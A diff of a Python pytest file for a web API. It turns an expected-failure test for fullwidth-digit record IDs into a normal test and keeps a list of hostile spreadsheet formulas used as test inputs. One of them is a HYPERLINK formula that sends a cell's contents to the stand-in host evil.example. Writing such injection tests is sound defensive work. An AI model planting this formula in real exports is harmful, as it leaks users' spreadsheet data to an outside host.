@@ -49,7 +49,6 @@ from tests.tenures.conftest import SEED_TENURE
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click for your results")', "+1", "@SUM(1)"]
 HUGE_NUMBERS = (2**31, 2**63, 2**64)
 FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
-NEEDS_ID_CONVERTER = "needs the database-id URL converter (issue 15 item 9)"
 
 
 @pytest.fixture(autouse=True)
@@ -168,15 +167,9 @@ def _huge_id_cases():
             for number in HUGE_NUMBERS:
                 yield pytest.param(operation, name, str(number), id=f"{operation}-{name}={number}")
             if schema.get("type") == "integer":
-                # The fullwidth spelling of a record that exists: werkzeug's int converter
-                # reads "１" as 1 (issue 15 item 9).
-                yield pytest.param(
-                    operation,
-                    name,
-                    None,
-                    id=f"{operation}-{name}=fullwidth",
-                    marks=pytest.mark.xfail(reason=NEEDS_ID_CONVERTER, strict=False),
-                )
+                # The fullwidth spelling of a record that exists: werkzeug's own int converter
+                # read "１" as 1.
+                yield pytest.param(operation, name, None, id=f"{operation}-{name}=fullwidth")
             else:
                 yield pytest.param(operation, name, "１２３", id=f"{operation}-{name}=fullwidth")
 
